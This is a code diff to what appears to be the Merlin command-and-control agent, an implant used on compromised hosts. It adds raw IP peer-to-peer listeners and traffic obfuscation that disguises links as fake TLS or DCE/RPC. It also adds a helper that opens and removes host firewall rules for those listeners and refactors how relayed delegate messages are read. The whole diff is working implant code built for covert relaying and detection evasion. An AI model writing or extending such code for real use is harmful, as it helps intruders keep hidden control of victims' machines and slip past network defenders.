@@ -38,13 +38,18 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/firewall"
 	"github.com/Ne0nd0g/merlin-agent/v2/p2p"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/dcerpc"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/faketls"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/frame"
 )
 
 const (
 	TCP = 0
 	UDP = 1
 	SMB = 2
+	RAW = 3
 )
 
 const (
@@ -70,6 +75,8 @@ func (p *p2pListener) String() string {
 		return "UDP"
 	case SMB:
 		return "SMB"
+	case RAW:
+		return "RAW"
 	default:
 		return fmt.Sprintf("commands/listener/p2pListener.String() unhandled p2pListener type %d", p.Type)
 	}
@@ -101,12 +108,20 @@ func Listener(cmd jobs.Command) (results jobs.Results) {
 		}
 		switch strings.ToLower(cmd.Args[1]) {
 		case "tcp":
-			err := ListenTCP(cmd.Args[2])
+			var obfuscation string
+			if len(cmd.Args) > 3 {
+				obfuscation = cmd.Args[3]
+			}
+			err := ListenTCP(cmd.Args[2], obfuscation)
 			if err != nil {
 				results.Stderr = err.Error()
 				return
 			}
 			results.Stdout = fmt.Sprintf("Successfully started TCP listener on %s", cmd.Args[2])
+			if faketls.Enabled(obfuscation) {
+				results.Stdout += " with fake TLS obfuscation"
+			}
+			listenerFirewall(&results, firewall.Listening, "tcp", cmd.Args[2])
 			return
 		case "udp":
 			err := ListenUDP(cmd.Args[2])
@@ -115,14 +130,30 @@ func Listener(cmd jobs.Command) (results jobs.Results) {
 				return
 			}
 			results.Stdout = fmt.Sprintf("Successfully started UDP listener on %s", cmd.Args[2])
+			listenerFirewall(&results, firewall.Listening, "udp", cmd.Args[2])
 			return
 		case "smb":
-			err := ListenSMB(cmd.Args[2])
+			var obfuscation string
+			if len(cmd.Args) > 3 {
+				obfuscation = cmd.Args[3]
+			}
+			err := ListenSMB(cmd.Args[2], obfuscation)
 			if err != nil {
 				results.Stderr = err.Error()
 				return
 			}
 			results.Stdout = fmt.Sprintf("Successfully started SMB listener on \\\\.\\pipe\\%s", cmd.Args[2])
+			if dcerpc.Enabled(obfuscation) {
+				results.Stdout += " with DCE/RPC obfuscation"
+			}
+			return
+		case "raw":
+			err := ListenRaw(cmd.Args[2], cmd.Args[3:])
+			if err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+			results.Stdout = fmt.Sprintf("Successfully started raw IP listener on %s", cmd.Args[2])
 			return
 		default:
 			results.Stderr = fmt.Sprintf("Unknown listener type %s", cmd.Args[1])
@@ -158,6 +189,7 @@ func Listener(cmd jobs.Command) (results jobs.Results) {
 						} else {
 							results.Stdout = fmt.Sprintf("Successfully closed TCP listener on %s", cmd.Args[2])
 						}
+						listenerFirewall(&results, firewall.Stopped, "tcp", cmd.Args[2])
 						p2pListeners = append(p2pListeners[:i], p2pListeners[i+1:]...)
 						return
 					}
@@ -174,12 +206,29 @@ func Listener(cmd jobs.Command) (results jobs.Results) {
 						} else {
 							results.Stdout = fmt.Sprintf("Successfully closed UDP listener on %s", cmd.Args[2])
 						}
+						listenerFirewall(&results, firewall.Stopped, "udp", cmd.Args[2])
 						p2pListeners = append(p2pListeners[:i], p2pListeners[i+1:]...)
 						return
 					}
 				}
 			}
 			results.Stderr = fmt.Sprintf("Unable to find and close UDP listener on %s", cmd.Args[2])
+		case "raw":
+			for i, listener := range p2pListeners {
+				if listener.Type == RAW {
+					if listener.Listener.(net.PacketConn).LocalAddr().String() == cmd.Args[2] {
+						err := listener.Listener.(net.PacketConn).Close()
+						if err != nil {
+							results.Stderr = err.Error()
+						} else {
+							results.Stdout = fmt.Sprintf("Successfully closed raw IP listener on %s", cmd.Args[2])
+						}
+						p2pListeners = append(p2pListeners[:i], p2pListeners[i+1:]...)
+						return
+					}
+				}
+			}
+			results.Stderr = fmt.Sprintf("Unable to find and close raw IP listener on %s", cmd.Args[2])
 		default:
 			results.Stderr = fmt.Sprintf("Unknown listener type %s", cmd.Args[1])
 		}
@@ -192,12 +241,32 @@ func Listener(cmd jobs.Command) (results jobs.Results) {
 	return
 }
 
+// listenerFirewall opens or removes the firewall rule for a listener's address and adds the outcome to the results
+func listenerFirewall(results *jobs.Results, change func(protocol, address string) (string, error), protocol, address string) {
+	msg, err := change(protocol, address)
+	if err != nil {
+		results.Stderr += err.Error()
+		return
+	}
+	if msg != "" {
+		results.Stdout += fmt.Sprintf(" and %s", msg)
+	}
+}
+
 // ListenTCP binds to the provided address and listens for incoming TCP connections
-func ListenTCP(addr string) error {
+// If the obfuscation argument is "faketls", every accepted connection must complete a fake TLS handshake
+func ListenTCP(addr string, obfuscation string) error {
+	var listener net.Listener
 	listener, err := net.Listen("tcp", addr)
 	if err != nil {
 		return fmt.Errorf("commands/listen.TCPListen(): there was an error listening on %s : %s", addr, err)
 	}
+	if faketls.Enabled(obfuscation) {
+		listener = faketls.NewListener(listener)
+	} else if obfuscation != "" {
+		_ = listener.Close()
+		return fmt.Errorf("commands/listen.TCPListen(): unhandled obfuscation type: %s", obfuscation)
+	}
 
 	// Add to global listeners
 	var ok bool
@@ -266,91 +335,30 @@ func accept(listener net.Listener, listenerType int) {
 			cli.Message(cli.WARN, fmt.Sprintf("commands/listen.accept(): there was an error accepting the connection: %s", err))
 			break
 		}
-		go listen(conn, listenerType)
+		go listen(conn, frame.NewReader(conn), listenerType)
 	}
 }
 
-// listen is an infinite loop, used as a go routine, to receive data from incoming connections and subsequently add Delegate messages to the outgoing queue
-func listen(conn net.Conn, listenerType int) {
+// listen is an infinite loop, used as a go routine, to receive data from incoming connections and subsequently add Delegate messages to the outgoing queue.
+// The reader must be the only one used to read from the connection so that no buffered message bytes are lost
+func listen(conn net.Conn, reader *frame.Reader, listenerType int) {
 	for {
-		var n int
-		var err error
-		var tag uint32
-		var length uint64
-		var buff bytes.Buffer
-		for {
-			data := make([]byte, 4096)
-			n, err = conn.Read(data)
-			if err != nil {
-				if errors.Is(err, io.EOF) {
-					cli.Message(cli.WARN, fmt.Sprintf("commands/listener.listen(): connection to %s closed, removing the listener connection.", conn.RemoteAddr()))
-					// Delete the listener from the global listeners
-					for i, l := range p2pListeners {
-						if l.Listener.(net.Listener).Addr() == conn.LocalAddr() {
-							p2pListeners = append(p2pListeners[:i], p2pListeners[i+1:]...)
-							return
-						}
+		msg, err := reader.Delegate()
+		if err != nil {
+			if errors.Is(err, io.EOF) {
+				cli.Message(cli.WARN, fmt.Sprintf("commands/listener.listen(): connection to %s closed, removing the listener connection.", conn.RemoteAddr()))
+				// Delete the listener from the global listeners
+				for i, l := range p2pListeners {
+					if nl, ok := l.Listener.(net.Listener); ok && nl.Addr() == conn.LocalAddr() {
+						p2pListeners = append(p2pListeners[:i], p2pListeners[i+1:]...)
+						return
 					}
 				}
-				err = fmt.Errorf("commands/listener.listen(): there was an error reading data from linked agent %s: %s", conn.RemoteAddr(), err)
-				break
-			}
-
-			// Add the bytes to the buffer
-			n, err = buff.Write(data[:n])
-			if err != nil {
-				err = fmt.Errorf("commands/listener.listen(): there was an error writing %d bytes from linked agent into the buffer %s: %s", n, conn.RemoteAddr(), err)
-				break
-			}
-
-			// If this is the first read on the connection determine the tag and data length
-			if tag == 0 {
-				// Ensure we have enough data to read the tag/type which is 4-bytes
-				if buff.Len() < 4 {
-					cli.Message(cli.DEBUG, fmt.Sprintf("commands/listener.listen(): Need at least 4 bytes in the buffer to read the Type/Tag for TLV but only have %d", buff.Len()))
-					continue
-				}
-				tag = binary.BigEndian.Uint32(data[:4])
-				if tag != 1 {
-					err = fmt.Errorf("commands/listener.listen(): Expected a type/tag value of 1 for TLV but got %d", tag)
-					break
-				}
 			}
-
-			if length == 0 {
-				// Ensure we have enough data to read the Length from TLV which is 8-bytes plus the 4-byte tag/type size
-				if buff.Len() < 12 {
-					cli.Message(cli.DEBUG, fmt.Sprintf("commands/listener.listen(): Need at least 12 bytes in the buffer to read the Length for TLV but only have %d", buff.Len()))
-					continue
-				}
-				length = binary.BigEndian.Uint64(data[4:12])
-			}
-
-			// If we've read all the data according to the length provided in TLV, then break the for loop
-			// Type/Tag size is 4-bytes, Length size is 8-bytes for TLV
-			if uint64(buff.Len()) == length+4+8 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("commands/listener.listen(): Finished reading data length of %d bytes into the buffer and moving forward to deconstruct the data", length))
-				break
-			} else {
-				cli.Message(cli.DEBUG, fmt.Sprintf("commands/listener.listen(): Read %d of %d bytes into the buffer", buff.Len(), length))
-			}
-		}
-		cli.Message(cli.NOTE, fmt.Sprintf("listener on %s read %d bytes from linked Agent %s at %s", conn.LocalAddr(), buff.Len(), conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
-
-		// Check for errors from the nested FOR loop
-		if err != nil {
-			cli.Message(cli.WARN, err.Error())
-			break
-		}
-
-		// Gob decode the message
-		var msg messages.Delegate
-		reader := bytes.NewReader(buff.Bytes()[12:])
-		err = gob.NewDecoder(reader).Decode(&msg)
-		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("commands/listener.listen(): there was an error gob decoding a delegate message: %s", err))
+			cli.Message(cli.WARN, fmt.Sprintf("commands/listener.listen(): there was an error reading a delegate message from linked agent %s: %s", conn.RemoteAddr(), err))
 			return
 		}
+		cli.Message(cli.NOTE, fmt.Sprintf("listener on %s read a %d byte delegate message from linked Agent %s at %s", conn.LocalAddr(), len(msg.Payload), conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
 
 		// Store LinkedAgent
 		_, err = peerToPeerService.GetLink(msg.Agent)